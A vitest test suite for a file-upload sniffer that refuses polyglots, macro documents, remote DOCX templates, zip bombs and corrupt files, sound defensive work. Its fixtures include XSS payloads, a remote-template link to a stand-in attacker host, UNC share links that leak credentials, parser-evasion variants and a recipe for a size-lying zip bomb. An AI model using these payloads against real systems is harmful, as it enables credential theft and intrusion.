import { describe, expect, it } from "vitest";
import { UPLOAD_MESSAGES, UploadError } from "@/lib/storage/errors";
import { ZIP_LIMITS } from "@/lib/storage/ooxml";
import { sniffBuffer } from "@/lib/storage/sniff";
import { DOCX_MAIN, docx, docxEntries, EICAR, jpeg, pdf, png, rels, xlsx, xlsxEntries, zip } from "./storage-fixtures";

// Content checks of uploads (security.md §5 row 8, ASVS 5.2.2/5.2.3): the type comes from the
// bytes; polyglots, macros, external targets, zip bombs and damaged files are refused.

async function refusal(buf: Buffer): Promise<{ reason: string; message: string }> {
  try {
    const type = await sniffBuffer(buf);
    throw new Error(`accepted as ${type}`);
  } catch (e) {
    if (!(e instanceof UploadError)) throw e;
    return { reason: e.reason, message: e.message };
  }
}

const CORRUPT = { reason: "corrupt", message: UPLOAD_MESSAGES.corrupt };
const WRONG_TYPE = { reason: "type", message: UPLOAD_MESSAGES.type };
const DOCX_ACTIVE = { reason: "active_content", message: UPLOAD_MESSAGES.activeContent };
const BOMB = { reason: "corrupt", message: UPLOAD_MESSAGES.zipLimits };

const settingsRels = (target: string, type = "attachedTemplate", extra = "") =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
  `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" ${extra}/></Relationships>`;

describe("accepted files", () => {
  it("recognises a real PDF, PNG, JPEG, DOCX and XLSX by content", async () => {
    expect(await sniffBuffer(pdf())).toBe("pdf");
    expect(await sniffBuffer(png())).toBe("png");
    expect(await sniffBuffer(jpeg())).toBe("jpeg");
    expect(await sniffBuffer(await docx())).toBe("docx");
    expect(await sniffBuffer(await xlsx())).toBe("xlsx");
    expect(await sniffBuffer(await zip(docxEntries(), { store: true }))).toBe("docx");
  });

  it("keeps web and mail hyperlinks in a DOCX (they only open when clicked)", async () => {
    const linked = await docx({
      "word/_rels/document.xml.rels": rels([
        { id: "rId5", type: "hyperlink", target: "https://vanban.chinhphu.vn/?a=1&amp;b=2", external: true },
        { id: "rId6", type: "hyperlink", target: "mailto:vanthu@snv.gov.vn", external: true },
      ]),
    });
    expect(await sniffBuffer(linked)).toBe("docx");
  });

  it("tolerates padding after a JPEG's end marker", async () => {
    expect(await sniffBuffer(Buffer.concat([jpeg(), Buffer.alloc(100)]))).toBe("jpeg");
  });
});

describe("wrong types", () => {
  it.each([
    ["the EICAR test string named .pdf", Buffer.from(EICAR)],
    ["plain text", Buffer.from("Kính gửi: Sở Nội vụ")],
    ["HTML", Buffer.from("<!doctype html><script>alert(1)</script>")],
    ["SVG", Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
    ["GIF", Buffer.from("GIF89a\x01\x00\x01\x00", "latin1")],
    ["an old .doc (OLE2)", Buffer.from("d0cf11e0a1b11ae1000000000000000000000000", "hex")],
    ["an empty file", Buffer.alloc(0)],
  ])("refuses %s", async (_, buf) => {
    expect(await refusal(buf)).toEqual(WRONG_TYPE);
  });

  it("refuses other OOXML packages (a template, a presentation) even named .docx", async () => {
    expect(await refusal(await zip(docxEntries({}, "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml")))).toEqual(WRONG_TYPE);
    expect(await refusal(await zip(docxEntries({}, "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml")))).toEqual(WRONG_TYPE);
  });
});

describe("polyglots", () => {
  it("refuses a PDF that is also a zip (zip appended, or a zip header near the start)", async () => {
    expect(await refusal(Buffer.concat([pdf(), await docx()]))).toEqual(CORRUPT);
    const zipTail = await zip({ "a.txt": "x" });
    // A zip hidden before %%EOF, past the first 1,024 bytes: a zip reader still finds its end record.
    const p = pdf("x".repeat(3000)).toString("latin1").replace("startxref", `%${zipTail.toString("latin1")}\nstartxref`);
    expect(await refusal(Buffer.from(p, "latin1"))).toEqual(CORRUPT);
    const head = pdf().toString("latin1").replace("%\xe2\xe3\xcf\xd3", "%PK\x03\x04");
    expect(await refusal(Buffer.from(head, "latin1"))).toEqual(CORRUPT);
  });

  it("refuses a zip that a PDF reader would open (%PDF within the first 1,024 bytes)", async () => {
    expect(await refusal(await zip({ "a.pdf": pdf(), ...docxEntries() }, { store: true }))).toEqual(CORRUPT);
  });

  it("refuses a PDF or image that a browser would sniff as HTML", async () => {
    const html = Buffer.from(pdf().toString("latin1").replace("%\xe2\xe3\xcf\xd3", "%<html><script>alert(document.cookie)</script>"), "latin1");
    expect(await refusal(html)).toEqual(CORRUPT);
  });

  it("refuses images with a zip or anything else appended", async () => {
    const z = await zip({ "a.txt": "x" });
    expect(await refusal(Buffer.concat([png(), z]))).toEqual(CORRUPT);
    expect(await refusal(Buffer.concat([jpeg(), z]))).toEqual(CORRUPT);
    expect(await refusal(Buffer.concat([png(), Buffer.from("trailing")]))).toEqual(CORRUPT);
  });
});

describe("macros and external targets", () => {
  it("refuses a DOCX with vbaProject.bin, and a macro-enabled document renamed .docx", async () => {
    expect(await refusal(await docx({ "word/vbaProject.bin": Buffer.from("d0cf11e0", "hex") }))).toEqual(DOCX_ACTIVE);
    expect(await refusal(await zip(docxEntries({}, "application/vnd.ms-word.document.macroEnabled.main+xml")))).toEqual(DOCX_ACTIVE);
  });

  it("refuses an XLSX with macros or links to other workbooks, with the XLSX message", async () => {
    const xlsxActive = { reason: "active_content", message: UPLOAD_MESSAGES.activeContentXlsx };
    expect(await refusal(await xlsx({ "xl/vbaProject.bin": Buffer.from("x") }))).toEqual(xlsxActive);
    expect(await refusal(await xlsx({ "xl/externalLinks/externalLink1.xml": "<externalLink/>" }))).toEqual(xlsxActive);
  });

  it("refuses a remote template (attachedTemplate, TargetMode External) and other external targets", async () => {
    const template = "http://attacker.example/template.dotm";
    const variants = [
      settingsRels(template, "attachedTemplate", 'TargetMode="External"'),
      settingsRels(template, "oleObject", "TargetMode='External'"),
      // Hidden from a naive parser: an entity in the value, a ">" inside the target, a prefix.
      settingsRels(template, "attachedTemplate", 'TargetMode="&#69;xternal"'),
      settingsRels("http://a.example/?x>y", "attachedTemplate", 'TargetMode="External"'),
      settingsRels(template, "attachedTemplate", 'TargetMode="External"').replace(/<Relationship /, "<r:Relationship "),
      // Hyperlinks to file shares leak Windows credentials when clicked.
      settingsRels("file://///10.0.0.5/share/x.docx", "hyperlink", 'TargetMode="External"'),
      settingsRels("\\\\10.0.0.5\\share", "hyperlink", 'TargetMode="External"'),
    ];
    for (const xml of variants) {
      expect(await refusal(await docx({ "word/_rels/settings.xml.rels": xml })), xml).toEqual(DOCX_ACTIVE);
    }
  });

  it("refuses a remote template whose TargetMode is padded or whose Target names a scheme or a share", async () => {
    const template = "http://attacker.example/template.dotm";
    const variants = [
      settingsRels(template, "attachedTemplate", 'TargetMode=" External "'),
      settingsRels(template, "attachedTemplate", 'TargetMode="&#9;EXTERNAL&#10;"'),
      settingsRels(` ${template}`, "attachedTemplate", 'TargetMode="External "'),
      // No TargetMode at all, the target still leaves the package.
      settingsRels(template, "attachedTemplate"),
      settingsRels("file:///C:/Users/Public/t.dotm", "attachedTemplate"),
      settingsRels("\\\\10.0.0.5\\share\\t.dotm", "attachedTemplate"),
      settingsRels("//10.0.0.5/share/t.dotm", "oleObject"),
      settingsRels("file://///10.0.0.5/share/x.docx", "hyperlink", 'TargetMode=" External"'),
    ];
    for (const xml of variants) {
      expect(await refusal(await docx({ "word/_rels/settings.xml.rels": xml })), xml).toEqual(DOCX_ACTIVE);
    }
    // The main part itself may not live elsewhere either.
    const entries = docxEntries();
    entries["_rels/.rels"] = rels([{ id: "rId1", type: "officeDocument", target: "word/document.xml" }]).replace('Target="word', 'TargetMode=" External " Target="word');
    expect(await refusal(await zip(entries))).toEqual(CORRUPT);
    // A web link stays a web link with a padded TargetMode.
    const link = settingsRels("https://dichvucong.gov.vn", "hyperlink", 'TargetMode=" External "');
    expect(await sniffBuffer(await docx({ "word/_rels/document.xml.rels": link }))).toBe("docx");
  });

  it("refuses a DOCTYPE in the package's XML", async () => {
    const entries = docxEntries();
    entries["_rels/.rels"] = `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x "y">]>${entries["_rels/.rels"].toString().replace(/^<\?xml[^>]*>/, "")}`;
    expect(await refusal(await zip(entries))).toEqual(CORRUPT);
  });
});

describe("zip bombs and limits", () => {
  it("refuses a high compression ratio quickly, without inflating it", async () => {
    const bomb = await docx({ "word/media/image1.bin": Buffer.alloc(30 * 1024 * 1024) });
    expect(bomb.length).toBeLessThan(100 * 1024);
    const t0 = Date.now();
    expect(await refusal(bomb)).toEqual(BOMB);
    expect(Date.now() - t0).toBeLessThan(2000);
  });

  it("refuses more than 1,000 entries", async () => {
    const many: Record<string, string> = {};
    for (let i = 0; i < ZIP_LIMITS.maxEntries; i++) many[`word/media/p${i}.xml`] = "<a/>";
    expect(await refusal(await docx(many))).toEqual(BOMB);
  });

  it("refuses an entry that inflates to more than it declares (a lying bomb)", async () => {
    const buf = await docx({ "word/media/data.bin": Buffer.alloc(2 * 1024 * 1024, 7) });
    // Declare 1,000 bytes in both the local and the central header of the last entry.
    const name = Buffer.from("word/media/data.bin");
    const central = buf.lastIndexOf(Buffer.concat([Buffer.from("PK\x01\x02", "latin1")]));
    expect(buf.subarray(central + 46, central + 46 + name.length).equals(name)).toBe(true);
    buf.writeUInt32LE(1000, central + 24);
    buf.writeUInt32LE(1000, buf.readUInt32LE(central + 42) + 22);
    expect(await refusal(buf)).toEqual(CORRUPT);
  });

  it("refuses a total over 200 MB declared by the entries", async () => {
    const buf = await docx({ "word/media/a.bin": Buffer.alloc(1000, 1) });
    const central = buf.lastIndexOf(Buffer.from("PK\x01\x02", "latin1"));
    buf.writeUInt32LE(ZIP_LIMITS.maxUncompressedBytes + 1, central + 24);
    expect(await refusal(buf)).toEqual(BOMB);
  });
});

describe("damaged files", () => {
  it("refuses truncated files of every type", async () => {
    const cut = (b: Buffer) => b.subarray(0, b.length - 30);
    for (const buf of [pdf(), png(), jpeg(), await docx(), await xlsx()]) {
      expect(await refusal(cut(buf))).toEqual(CORRUPT);
    }
  });

  it("refuses a zip entry whose bytes do not match its CRC", async () => {
    const buf = await zip(docxEntries(), { store: true });
    const at = buf.indexOf("Công văn");
    buf[at] ^= 0x20;
    expect(await refusal(buf)).toEqual(CORRUPT);
  });

  it("refuses OOXML without its required parts, or with two spellings of one part", async () => {
    const entries = docxEntries();
    const { "[Content_Types].xml": _, ...noTypes } = entries;
    expect(await refusal(await zip(noTypes))).toEqual(CORRUPT);
    const { "word/document.xml": __, ...noMain } = entries;
    expect(await refusal(await zip(noMain))).toEqual(CORRUPT);
    expect(await refusal(await zip({ "a.txt": "không phải văn bản" }))).toEqual(CORRUPT);
    expect(await refusal(await docx({ "WORD/document.xml": "<x/>" }))).toEqual(CORRUPT);
  });

  it("refuses a PNG whose header asks for an enormous image", async () => {
    expect(await refusal(png(50_000, 50_000))).toEqual(CORRUPT);
  });

  it("keeps the message of every refusal in Vietnamese", () => {
    expect(DOCX_MAIN).toContain("wordprocessingml");
    expect(UPLOAD_MESSAGES.tooLarge(50 * 1024 * 1024)).toBe("Tệp vượt quá dung lượng cho phép (tối đa 50 MB).");
  });
});
